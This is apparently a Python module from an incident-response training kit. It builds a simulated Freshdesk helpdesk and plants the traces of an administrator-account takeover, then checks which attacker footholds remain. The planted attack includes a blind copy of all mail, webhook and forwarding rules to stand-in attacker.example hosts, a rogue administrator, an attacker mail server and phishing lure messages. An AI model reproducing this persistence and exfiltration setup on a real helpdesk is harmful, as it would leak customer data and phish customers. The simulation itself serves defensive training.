"""The helpdesk as it stands when the attack has just been noticed, and what the attack left behind."""

from __future__ import annotations

from collections.abc import Iterator, Mapping, Sequence
from datetime import timedelta

from irkit.worlds.freshdesk.tenant import Obj, Tenant, stamp
from irkit.worlds.log import mix
from irkit.worlds.traces import Left, planted
from irkit.worlds.world import Person

BREAK_GLASS = "ir-break-glass@northwind.example"
ROLES = ("Account Administrator", "Administrator", "Supervisor", "Agent")
FAR = "archive@mailbox.attacker.example"
TOPICS = ("Parcel has not arrived", "Invoice 4411 is wrong", "Please change my address", "Copy of my passport, as asked",
          "Cannot sign in", "Refund of order 90210")
LURE = "Your parcel is held. Confirm your address: https://northwind-help.attacker.example/confirm"


def furnish(tenant: Tenant, people: Sequence[Person], subjects: Mapping[str, str]) -> None:
    for name in ROLES:
        tenant.put("roles", {"id": tenant.id(), "name": tenant.words(name) if name != "Agent" else name, "default": True,
                             "description": name, "created_at": tenant.ago(days=900), "updated_at": tenant.ago(days=900),
                             "_plain": name})
    for name in ("Orders", "Billing"):
        tenant.put("groups", {"id": tenant.id(), "name": tenant.words(name), "description": "", "escalate_to": None,
                              "created_at": tenant.ago(days=800), "updated_at": tenant.ago(days=300)})
    _agents(tenant, people, subjects)
    _contacts(tenant)
    _tickets(tenant)
    _rules(tenant)
    _mail(tenant)
    if tenant.options.attack:
        tenant.planted = planted(lambda: tenant.shelves, lambda: _attack(tenant, tenant.shelves["agents"][tenant.subject]))


def add_agent(tenant: Tenant, person: Person, role: str, *, days: float, scope: int = 1, groups: int = 2) -> Obj:
    made = tenant.ago(days=days)
    return tenant.put("agents", {
        "id": tenant.id(), "available": True, "occasional": False, "signature": None, "ticket_scope": scope,
        "role_ids": [tenant.role(role)], "group_ids": [one["id"] for one in tenant.shelves["groups"].values()][:groups],
        "skill_ids": [], "deactivated": False, "type": "support_agent", "last_active_at": tenant.ago(hours=1),
        "created_at": made, "updated_at": made, "_key": tenant.secret(f"key {person.email}"),
        "contact": {"name": tenant.words(person.name), "email": person.email, "active": True, "created_at": made,
                    "updated_at": made, "last_login_at": tenant.ago(hours=3)}})


def _agents(tenant: Tenant, people: Sequence[Person], subjects: Mapping[str, str]) -> None:
    email = tenant.options.subject or next((value for value in subjects.values() if "@" in value), "")
    everybody = {person.email.lower(): person for person in people}
    if email:
        everybody.setdefault(email.lower(), Person(email.partition("@")[0].replace(".", " ").title(), email, "agent"))
    everybody.setdefault("robin@example.org", Person("Robin Vale", "robin@example.org", "agent"))
    own = add_agent(tenant, Person("IR break glass", BREAK_GLASS, "admin"), ROLES[0], days=400)
    for person in everybody.values():
        if person.role != "end-user":
            add_agent(tenant, person, "Administrator" if person.role == "admin" else "Agent", days=500)
    add_agent(tenant, Person("Former Colleague", "former@example.org", "agent"), "Agent", days=900)["deactivated"] = True
    add_agent(tenant, Person("Parked Temp", "temp@example.org", "agent"), "Agent", days=90, scope=3, groups=0)
    wanted = email or next(one.email for one in everybody.values() if one.role != "end-user")
    subject = tenant.agent(next(one.email for one in everybody.values() if one.email.lower() == wanted.lower()))
    tenant.subject, tenant.email = str(subject["id"]), subject["contact"]["email"]
    if not tenant.options.admin:
        own["role_ids"] = [tenant.role("Agent")]
    own["ticket_scope"] = 1 if tenant.options.global_scope else 3
    tenant.own = tenant.subject if tenant.options.key_of_subject else str(own["id"])


def add_contact(tenant: Tenant, name: str, email: str, *, days: float, deleted: bool = False) -> Obj:
    return tenant.put("contacts", {
        "id": tenant.id(), "name": tenant.words(name), "email": email, "active": True, "deleted": deleted, "other_emails": [],
        "created_at": tenant.ago(days=500), "updated_at": tenant.ago(days=days)})


def _contacts(tenant: Tenant) -> None:
    for number in range(8):
        add_contact(tenant, f"Customer {number}", f"customer{number}@example.net", days=60 + number)
    add_contact(tenant, "Returned Colleague", "returned@example.org", days=40)


def _customers(tenant: Tenant) -> list[Obj]:
    return [one for one in tenant.shelves["contacts"].values() if one["email"].startswith("customer")]


def _tickets(tenant: Tenant) -> None:
    """Over 90 days; some were made long ago and changed lately, which a list without `updated_since` leaves out."""
    agents = list(tenant.shelves["agents"].values())
    for number in range(1, tenant.options.tickets + 1):
        at = tenant.start - timedelta(days=90) * (1 - number / (tenant.options.tickets + 1))
        bits = mix(number, tenant.options.seed)
        agent, customer = agents[bits % len(agents)], _customers(tenant)[bits // 7 % 8]
        made = at - timedelta(days=200 if bits % 5 == 0 else 1)
        tenant.tickets[str(number)] = {
            "id": number, "subject": tenant.words(TOPICS[bits % len(TOPICS)]), "status": 2 + bits // 11 % 4, "priority": 1,
            "source": 1, "requester_id": customer["id"], "responder_id": agent["id"], "spam": False, "deleted": False,
            "group_id": (agent["group_ids"] or [None])[0], "created_at": stamp(made), "updated_at": stamp(at),
            "_archived": bits % 9 == 0}
        write(tenant, number, None, TOPICS[bits % len(TOPICS)], made, customer["email"])
        write(tenant, number, agent, "Thank you, we are looking into it.", at, customer["email"])


def write(tenant: Tenant, ticket: int, agent: Obj | None, text: str, at: object, customer: str, **more: object) -> None:
    """An entry on a ticket: of the customer, or of an agent."""
    moment = at if isinstance(at, str) else stamp(at)      # type: ignore[arg-type]
    tenant.written.setdefault(str(ticket), []).append({
        "id": tenant.id(), "ticket_id": ticket, "body": f"<div>{tenant.words(text)}</div>", "body_text": tenant.words(text),
        "incoming": agent is None, "private": False, "user_id": agent["id"] if agent else 1, "source": 0, "attachments": [],
        "to_emails": [customer] if agent else ["support@northwind.example"], "cc_emails": [], "bcc_emails": [],
        "created_at": moment, "updated_at": moment, **more})


def add_rule(tenant: Tenant, kind: str, name: str, action: Obj, by: int, *, days: float, active: bool = True) -> Obj:
    return tenant.put("rules", {
        "id": tenant.id(), "name": tenant.words(name), "position": 1, "active": active, "automation_type_id": int(kind),
        "performer": {"type": 3}, "events": [{"field_name": "status", "from": "--", "to": "--"}], "operator": "condition_set_1",
        "conditions": [{"name": "condition_set_1", "match_type": "all", "properties": [
            {"resource_type": "ticket", "field_name": "status", "operator": "in", "value": [2]}]}],
        "actions": [action], "outdated": False, "last_updated_by": by, "affected_tickets_count": 4,
        "created_at": tenant.ago(days=days), "updated_at": tenant.ago(days=days), "_type": kind})


def webhook(tenant: Tenant, url: str) -> Obj:
    return {"field_name": "trigger_webhook", "url": url, "request_type": "POST", "api_key": tenant.secret(f"api key {url}", 32),
            "auth_header": {"username": "sync", "password": tenant.secret(f"password {url}", 24)},
            "custom_headers": {"X-Token": tenant.secret(f"header {url}", 28)}, "content": {"content_layout": "advanced"}}


def _rules(tenant: Tenant) -> None:
    own = tenant.agent(BREAK_GLASS)["id"]
    add_rule(tenant, "1", "Assign orders", {"field_name": "group_id", "value": 1}, own, days=300)
    add_rule(tenant, "4", "Tell the warehouse", webhook(tenant, "https://warehouse.northwind.example/hook"), own, days=280)
    add_rule(tenant, "3", "Close stale tickets", {"field_name": "status", "value": 5}, own, days=290, active=False)
    tenant.put("scenarios", {"id": tenant.id(), "name": tenant.words("Escalate"), "description": "", "private": False,
                             "actions": [{"name": "priority", "value": 4}], "created_at": tenant.ago(days=200),
                             "updated_at": tenant.ago(days=200)})


def _mail(tenant: Tenant) -> None:
    tenant.bcc = ["journal@northwind.example"]
    made = {"group_id": None, "product_id": None, "active": True, "created_at": tenant.ago(days=700),
            "updated_at": tenant.ago(days=700)}
    tenant.put("mailboxes", {"id": tenant.id(), "name": tenant.words("Support"), "support_email": "support@northwind.example",
                             "default_reply_email": True, "mailbox_type": "freshdesk_mailbox",
                             "freshdesk_mailbox": {"forward_email": "northwindsupport@northwind-drill.freshdesk.com"}, **made})
    tenant.put("configs", {"id": tenant.id(), "name": tenant.words("Support"), "reply_email": "support@northwind.example",
                           "to_email": "northwindsupport@northwind-drill.freshdesk.com", "primary_role": True, **made})
    for kind in ("contacts", "companies"):
        key = tenant.secret(f"export {kind}", 40)
        tenant.put("exports", {"id": key, "status": "completed", "_of": kind, "download_url":
                               f"https://files.northwind.example/{kind}.csv?signature={tenant.secret(f'link {kind}', 40)}"})
    tenant.put("jobs", {"id": tenant.secret("job", 24), "status": "COMPLETED", "download_url":
                        f"https://files.northwind.example/account.zip?signature={tenant.secret('link account', 40)}"})


def _attack(tenant: Tenant, subject: Obj) -> None:
    """A taken administrator: a blind copy of all mail, a rule that calls home, an agent of their own, lures, tracks removed."""
    subject["role_ids"] = [tenant.role("Administrator")]
    subject["contact"]["last_login_at"] = tenant.ago(hours=7)
    tenant.bcc.append(FAR)
    add_rule(tenant, "1", "Sync new tickets", webhook(tenant, "https://hooks.attacker.example/in?k=1"), subject["id"],
             days=0.27)
    add_rule(tenant, "4", "Keep a copy", {"field_name": "forward_ticket", "fwd_to": [FAR], "fwd_note_body": "fyi"},
             subject["id"], days=0.26)
    add_agent(tenant, Person("Support Sync", "svc-sync@mailbox.attacker.example", "admin"), "Administrator", days=0.25)
    tenant.put("mailboxes", {
        "id": tenant.id(), "name": tenant.words("Returns"), "support_email": "returns@attacker.example", "active": True,
        "default_reply_email": False, "mailbox_type": "custom_mailbox", "group_id": None, "product_id": None,
        "created_at": tenant.ago(days=0.24), "updated_at": tenant.ago(days=0.24),
        "custom_mailbox": {"access_type": "outgoing", "outgoing": {"mail_server": "smtp.attacker.example"}}})
    for number in range(1, min(12, tenant.options.tickets - 3) + 1):
        customer = _customers(tenant)[number % 8]
        at = tenant.start - timedelta(hours=5, minutes=-number)
        tenant.tickets[str(number)].update(updated_at=stamp(at), requester_id=customer["id"])
        write(tenant, number, subject, LURE, at, customer["email"], bcc_emails=[FAR])
    for number in range(max(1, tenant.options.tickets - 2), tenant.options.tickets + 1):
        tenant.tickets[str(number)].update(deleted=True, updated_at=tenant.ago(hours=4))
    add_contact(tenant, "Wary Customer", "wary@example.net", days=0.16, deleted=True)


def _still(tenant: Tenant, shelf: str) -> list[Obj]:
    """What the attack put on that shelf and that still stands there."""
    return [tenant.shelves[shelf][key] for key in tenant.planted.get(shelf, ()) if key in tenant.shelves[shelf]]


def alive(tenant: Tenant) -> Iterator[Left]:
    """What of the attack still lets somebody in, or still sends."""
    if not tenant.planted:
        return
    agent = tenant.shelves["agents"].get(tenant.subject)
    if agent and not agent["deactivated"] and tenant.role("Administrator") in agent["role_ids"]:
        yield Left("administrator", tenant.email)
    if FAR in tenant.bcc:
        yield Left("blind_copy", FAR)
    yield from (Left("rule", one["name"]) for one in _still(tenant, "rules") if one["active"])
    yield from (Left("agent", one["contact"]["email"]) for one in _still(tenant, "agents")
                if not one["deactivated"] and one["ticket_scope"] != 3)
    yield from (Left("mailbox", one["support_email"]) for one in _still(tenant, "mailboxes") if one["active"])
